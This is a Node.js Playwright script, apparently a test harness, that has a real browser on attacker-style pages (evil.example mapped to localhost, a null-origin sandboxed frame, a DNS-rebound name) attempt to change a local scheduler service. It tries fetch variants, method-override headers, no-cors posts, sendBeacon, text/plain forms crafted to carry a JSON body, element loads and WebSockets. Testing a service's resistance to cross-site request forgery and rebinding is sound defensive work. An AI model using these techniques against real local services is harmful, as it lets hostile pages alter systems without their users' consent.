// attack.mjs PLAN.json: a real browser on foreign pages, which tries to change what the service does.
// The plan: {"browser", "profile", "foreign_port", "surfaces": {name: port}, "routes": [{surface, method, path, body}],
// "own"}. What the pages could see is printed as one JSON document.
import { readFile } from "node:fs/promises";
import { chromium } from "playwright-core";

const plan = JSON.parse(await readFile(process.argv[2], "utf8"));
// Without the browser's own guard of local networks, which not every browser has: the service must not need it.
const browser = await chromium.launch({
  executablePath: plan.browser,
  args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
    "--disable-features=LocalNetworkAccessChecks,LocalNetworkAccessChecksWebSockets",
    "--host-resolver-rules=MAP evil.example 127.0.0.1"],
});
const page_html = "<!doctype html><title>page</title><body>";

// Runs in the page. Every way to make a browser send something without its user's wish.
async function attack({ targets, routes, ways }) {
  const seen = [];
  const wait = (promise) => Promise.race([promise, new Promise((done) => setTimeout(() => done("nothing"), 5000))]);
  const load = (tag, url) => new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = () => done("loaded");
    element.onerror = () => done("failed");
    if (tag === "link") { element.rel = "prefetch"; element.href = url; } else { element.src = url; }
    document.body.append(element);
  });
  const submit = (url, enctype, inputs) => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = `frame${Math.random()}`;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: url, target: frame.name, enctype });
    for (const [name, value] of inputs) {
      const input = document.createElement("input");
      Object.assign(input, { name, value });
      form.append(input);
    }
    document.body.append(form);
    frame.onload = () => done("loaded");
    form.submit();
  });
  const send = (url, options) => fetch(url, options).then((answer) => answer.status, (problem) => problem.name);
  const json = { "Content-Type": "application/json" };
  for (const base of targets) {
    for (const { surface, method, path, body } of routes) {
      const url = base.replace("{port}", surface) + path;
      const text = JSON.stringify(body);
      const tries = {
        fetch: () => send(url, { method, headers: json, body: text }),
        fetch_empty: () => send(url, { method }),
        fetch_credentials: () => send(url, { method, headers: json, body: text, credentials: "include" }),
        override: () =>
          send(url, { method: "POST", headers: { ...json, "X-HTTP-Method-Override": method }, body: text }),
        simple: () => send(url, { method: "POST", mode: "no-cors", body: text }),
        simple_text: () =>
          send(url, { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: text }),
        query: () => send(`${url}?_method=${method}`, { mode: "no-cors" }),
        beacon: () => Promise.resolve(String(navigator.sendBeacon(url, new Blob([text], { type: "text/plain" })))),
        // The form's one field makes the body JSON: {...,"_":"="}
        form_plain: () =>
          submit(url, "text/plain", [[text.slice(0, -1) + (text.length > 2 ? "," : "") + '"_":"', '"}']]),
        form_encoded: () => submit(url, "application/x-www-form-urlencoded", Object.entries(body)),
        form_empty: () => submit(url, "application/x-www-form-urlencoded", []),
        form_multipart: () => submit(url, "multipart/form-data", Object.entries(body)),
        image: () => load("img", url),
        script: () => load("script", url),
        frame: () => load("iframe", url),
        link: () => load("link", url),
        socket: () => new Promise((done) => {
          const socket = new WebSocket(url.replace(/^http/, "ws"));
          socket.onopen = () => done("open");
          socket.onerror = () => done("failed");
        }),
      };
      for (const way of ways ?? Object.keys(tries)) {
        seen.push({ base, method, path, way, saw: await wait(tries[way]()) });
      }
    }
  }
  return seen;
}

// The page's own html comes from us, whatever its address: as it does before a name is bound to another address.
async function on_page(address, work) {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.route(address, (route) => route.fulfill({ contentType: "text/html", body: page_html }));
  await page.goto(address);
  try {
    return await work(page);
  } finally {
    await context.close();
  }
}

const routes = plan.routes.map((route) => ({ ...route, surface: String(plan.surfaces[route.surface]) }));
const result = {};
const few = ["fetch", "simple", "form_plain", "form_empty", "fetch_empty"];
const near = ["http://127.0.0.1:{port}", "http://localhost:{port}"];

result.foreign = await on_page(`http://evil.example:${plan.foreign_port}/page`,
  (page) => page.evaluate(attack, { targets: near, routes }));
// Another program on the same machine: the same site, but another origin.
result.neighbour = await on_page(`http://localhost:${plan.foreign_port}/page`,
  (page) => page.evaluate(attack, { targets: near, routes, ways: few }));
// A sandboxed frame, whose origin is null.
result.opaque = await on_page(`http://evil.example:${plan.foreign_port}/page`, async (page) => {
  await page.setContent('<iframe sandbox="allow-scripts allow-forms" srcdoc="<!doctype html><body>"></iframe>');
  const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
  return frame.evaluate(attack, { targets: near, routes, ways: few });
});
// The rebound name: the browser takes the service for the page's own origin, so it may see every answer.
const rebound_ways = ["fetch", "fetch_empty", "simple", "form_plain"];
result.rebound = [];
for (const [surface, port] of Object.entries(plan.surfaces)) {
  const own = routes.filter((route) => route.surface === String(port));
  result.rebound.push(...await on_page(`http://evil.example:${port}/page`,
    (page) => page.evaluate(attack, { targets: ["http://evil.example:{port}"], routes: own, ways: rebound_ways })));
}
result.rebound_looks = await on_page(`http://evil.example:${plan.surfaces.scheduler}/page`, (page) => page.evaluate(
  async () => Promise.all(["/status", "/history", "/health", "/metrics", "/openapi.json"].map(
    async (path) => ({ path, saw: (await fetch(path)).status })))));
result.foreign_looks = await on_page(`http://evil.example:${plan.foreign_port}/page`, (page) => page.evaluate(
  async (base) => Promise.all(["/status", "/schedule", "/decisions"].map(
    async (path) =>
      ({ path, saw: await fetch(base + path).then((answer) => answer.status, (problem) => problem.name) }))),
  `http://127.0.0.1:${plan.surfaces.scheduler}`));
// The same browser on a page of the service's own: it may.
result.own = await on_page(`http://127.0.0.1:${plan.surfaces.scheduler}/page`, (page) => page.evaluate(
  async () => (await fetch("/schedule", { method: "PUT", headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ at: "11:11" }) })).status));
await browser.close();
console.log(JSON.stringify(result));
